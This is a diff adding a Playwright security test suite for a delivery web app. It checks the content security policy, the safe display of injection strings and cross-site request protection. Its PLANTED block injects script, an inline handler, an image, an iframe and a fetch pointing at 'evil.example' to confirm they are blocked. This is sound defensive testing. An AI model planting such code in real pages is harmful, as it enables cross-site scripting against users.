@@ -1,0 +1,235 @@
+import type { Page } from '@playwright/test';
+import { openEvil } from './evil.ts';
+import type { House } from './house.ts';
+import { expect, MAPLESS, NO_ANSWER, test, type Visitor } from './journey.ts';
+import { enter, makePerson, order, type Person } from './people.ts';
+import { INJECTIONS } from './strings.ts';
+
+const AT = { latitude: 24.004, longitude: 66.995 };
+const A_ROUND = 3;
+const LABEL = 50;
+
+type Story = {
+  readonly bud: Person;
+  readonly scrub: Person;
+  readonly duber: Person;
+  readonly orderId: string;
+  readonly deliveryId: string;
+};
+
+async function openPeople(house: House, name: string): Promise<Pick<Story, 'bud' | 'scrub' | 'duber'>> {
+  const [bud, scrub, duber] = await Promise.all([
+    makePerson(house, { role: 'Bud', fullname: `${name} Bud`, at: AT }),
+    makePerson(house, { role: 'Scrub', fullname: `${name} Scrub`, at: { ...AT, latitude: 24.006 } }),
+    makePerson(house, { role: 'Duber', fullname: `${name} Duber`, at: AT }),
+  ]);
+  return { bud, scrub, duber };
+}
+
+/** An order that has all there is to show: a delivery that was delivered, instructions and every review. */
+async function tell({ bud, scrub, duber }: Pick<Story, 'bud' | 'scrub' | 'duber'>, text?: string): Promise<Story> {
+  const { id } = await bud.api.placeOrder({
+    body: {
+      budAddressId: bud.addressId,
+      scrubId: scrub.id,
+      loadSize: 'Small',
+      paymentSourceId: 'cnon:card-nonce-ok',
+      ...(text ? { orderInstructions: text } : {}),
+    },
+  });
+  const params = { id };
+  await scrub.api['accept-order']({ params });
+  const leg = (await bud.api.readOrder({ params })).deliveries[0]?.id ?? '';
+  for (const step of ['accept-delivery', 'way-to-pickup', 'collected', 'way-to-drop', 'delivered'] as const) {
+    await duber.api[step]({ params: { id: leg } });
+  }
+  await scrub.api['start-order']({ params });
+  await scrub.api['complete-order']({ params });
+  const words = { message: text ?? 'Everything came back fresh.', rating: 4 };
+  await bud.api.reviewToScrub({ params, body: { ...words, scrubId: scrub.id } });
+  await scrub.api.reviewToBud({ params, body: { ...words, budId: bud.id } });
+  await bud.api.reviewToDuber({ params: { id: leg }, body: { ...words, duberId: duber.id } });
+  await scrub.api.reviewToDuber({ params: { id: leg }, body: { ...words, duberId: duber.id } });
+  return { bud, scrub, duber, orderId: id, deliveryId: leg };
+}
+
+const DETAILS = ({ orderId, deliveryId }: Story) => ({
+  Bud: [`/bud/orders/${orderId}`, `/bud/deliveries/${deliveryId}`],
+  Scrub: [`/scrub/jobs/${orderId}`, `/scrub/deliveries/${deliveryId}`],
+  Duber: [`/duber/deliveries/${deliveryId}`],
+});
+
+const OWN = {
+  Bud: ['/bud/dashboard', '/bud/place-order', '/bud/orders', '/bud/deliveries', '/profile', '/faq'],
+  Scrub: ['/scrub/dashboard', '/scrub/jobs', '/scrub/deliveries', '/scrub/earnings', '/profile', '/faq'],
+  Duber: ['/duber/dashboard', '/duber/deliveries', '/duber/earnings', '/profile', '/faq'],
+} as const;
+
+const SIGNED_OUT = [
+  '/',
+  '/login',
+  '/signup',
+  '/auth/forgot-password',
+  '/auth/reset-password',
+  '/auth/reset-password?token=x',
+  '/unsubscribe?token=x',
+  '/terms',
+  '/privacy',
+];
+
+type Watch = { readonly reports: string[]; readonly dialogs: string[] };
+
+const NOTE_REPORTS = `document.addEventListener('securitypolicyviolation', (event) =>
+  note(event.effectiveDirective + ': ' + event.blockedURI + ' at ' + location.hash))`;
+
+/** Notes what a page breaks of its content security policy, and whatever it asks in a dialog. */
+async function watch({ context, page }: Visitor): Promise<Watch> {
+  const noted: Watch = { reports: [], dialogs: [] };
+  await context.exposeBinding('note', (_source, report: string) => void noted.reports.push(report));
+  await context.addInitScript(NOTE_REPORTS);
+  page.on('dialog', (dialog) => {
+    noted.dialogs.push(dialog.message());
+    void dialog.accept();
+  });
+  return noted;
+}
+
+async function see(page: Page, path: string): Promise<void> {
+  await page.goto(`/#${path}`);
+  await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
+  // What the screen asked for has come, and is drawn.
+  await expect(page.getByRole('status', { name: /^Loading/ })).toHaveCount(0);
+}
+
+const ranIn = (page: Page) => page.evaluate<unknown>('window.ran');
+
+test('no screen of anybody breaks the content security policy, and a page that does is reported', async ({
+  house,
+  arrive,
+}) => {
+  const story = await tell(await openPeople(house, 'Polly'));
+  const details = DETAILS(story);
+  let seen = 0;
+  for (const person of [story.bud, story.scrub, story.duber]) {
+    // With its maps: they are most of what a policy could be in the way of.
+    const visitor = await arrive();
+    const { reports } = await watch(visitor);
+    await enter(visitor, house, person);
+    for (const path of [...OWN[person.role], ...details[person.role]]) {
+      await see(visitor.page, path);
+      seen += 1;
+    }
+    expect(reports, `of a ${person.role}`).toEqual([]);
+    await visitor.context.close();
+  }
+  const stranger = await arrive();
+  const { reports } = await watch(stranger);
+  for (const path of SIGNED_OUT) {
+    await see(stranger.page, path);
+    seen += 1;
+  }
+  expect(reports).toEqual([]);
+  expect(seen).toBe(31);
+});
+
+test('foreign code on a page is kept from running, and reported', async ({ arrive }) => {
+  const { page, context, ...visitor } = await arrive(MAPLESS);
+  const { reports } = await watch({ page, context, ...visitor });
+  await see(page, '/terms');
+  visitor.mayBeRefused(NO_ANSWER, 'Content Security Policy');
+  await page.evaluate(PLANTED);
+  const kinds = () => reports.map((report) => report.split(':')[0]).toSorted();
+  await expect
+    .poll(kinds)
+    .toEqual(['connect-src', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem', 'script-src-elem']);
+  expect(await ranIn(page)).toBeUndefined();
+});
+
+/** What an injection would do on a page. */
+const PLANTED = `
+  const add = (name, attributes, text = '') => {
+    const element = document.createElement(name);
+    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
+    element.textContent = text;
+    document.body.append(element);
+    return element;
+  };
+  add('script', {}, 'window.ran = 1');
+  add('script', { src: 'https://evil.example/x.js' });
+  add('p', { onclick: 'window.ran = 1' }).click();
+  add('img', { src: 'https://evil.example/x.png' });
+  add('iframe', { src: 'https://evil.example/' });
+  fetch('https://evil.example/').catch(() => undefined);`;
+
+test('what people write is shown as they wrote it, in every field and on every screen, and runs nothing', async ({
+  house,
+  arrive,
+}) => {
+  const people = await openPeople(house, 'Inga');
+  const visitors = await Promise.all(
+    [people.bud, people.scrub, people.duber].map(async (person) => {
+      const visitor = await arrive(MAPLESS);
+      await enter(visitor, house, person);
+      return { person, page: visitor.page, noted: await watch(visitor) };
+    }),
+  );
+  let shown = 0;
+  for (let from = 0; from < INJECTIONS.length; from += A_ROUND) {
+    const strings = INJECTIONS.slice(from, from + A_ROUND);
+    await rename(people, strings);
+    const story = await tell(people, strings.join(' '));
+    const details = DETAILS(story);
+    // Where lists and figures show them the last round looks: those screens show the same words in the same parts.
+    const isLast = from + A_ROUND >= INJECTIONS.length;
+    for (const { person, page } of visitors) {
+      for (const path of [...details[person.role], ...(isLast ? OWN[person.role] : [])]) {
+        await see(page, path);
+        expect(await ranIn(page), path).toBeUndefined();
+      }
+      await see(page, details[person.role][0] ?? '');
+      for (const text of strings) await expect(page.locator('body'), text).toContainText(text);
+      shown += 1;
+    }
+  }
+  expect(shown).toBe(INJECTIONS.length);
+  for (const { noted } of visitors) expect(noted).toEqual({ reports: [], dialogs: [] });
+});
+
+/** Gives each of the three another of the strings as name, label and address. */
+async function rename(people: Pick<Story, 'bud' | 'scrub' | 'duber'>, strings: readonly string[]): Promise<void> {
+  for (const [index, person] of [people.bud, people.scrub, people.duber].entries()) {
+    const text = strings[index] ?? '';
+    await person.api.updateProfile({ body: { fullname: text } });
+    await person.api.updateAddress({
+      body: { id: person.addressId, label: text.slice(0, LABEL), address: text, ...AT },
+    });
+  }
+}
+
+test('another site’s pages cannot take a step, in any way that a browser has', async ({ house, arrive }) => {
+  const { bud, scrub } = await openPeople(house, 'Cross');
+  const { id } = await order(bud, scrub);
+  const visitor = await arrive(MAPLESS);
+  await enter(visitor, house, bud);
+  await expect(visitor.page.getByRole('heading', { level: 1 })).toBeVisible();
+  const step = `${house.url}/api/scrub-orders/${id}/cancel-order`;
+  const evil = await openEvil(step, bud.token);
+  const before = await bud.api.readOrder({ params: { id } });
+  visitor.mayBeRefused(401, NO_ANSWER);
+  try {
+    const page = await visitor.context.newPage();
+    await page.goto(evil.url);
+    await expect(page.locator('#done')).toHaveText('all tried', { timeout: 30_000 });
+    await page.locator('form button').click();
+    await page.waitForURL(`${step}*`);
+    await expect(page.locator('body')).toContainText('User not authenticated');
+    await page.goto(step);
+    await expect(page.locator('body')).toContainText('User not authenticated');
+    // What came from there did come: a test without requests would prove nothing.
+    expect(await page.evaluate<string>('document.cookie')).toContain('auth-token');
+    expect(await bud.api.readOrder({ params: { id } })).toEqual(before);
+  } finally {
+    await evil.close();
+  }
+  await bud.api['cancel-order']({ params: { id } });
+});
